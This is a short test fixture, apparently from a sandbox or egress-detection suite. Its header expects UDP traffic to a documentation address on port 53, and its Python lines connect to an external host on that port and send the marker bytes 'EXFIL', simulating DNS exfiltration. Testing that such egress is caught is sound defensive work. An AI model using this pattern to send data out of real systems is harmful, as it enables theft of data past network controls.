#: {"class": "egress", "loader": "script", "expect": [["sendto|sendmsg|sendmmsg|send|connect|udp", "203\\.0\\.113\\.7:53"]], "effect": {"sink": ["dns", "EXFIL"]}}
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.1", @PORT_MIRROR@))
s.connect((EXT, 53)); s.send(b"EXFIL")
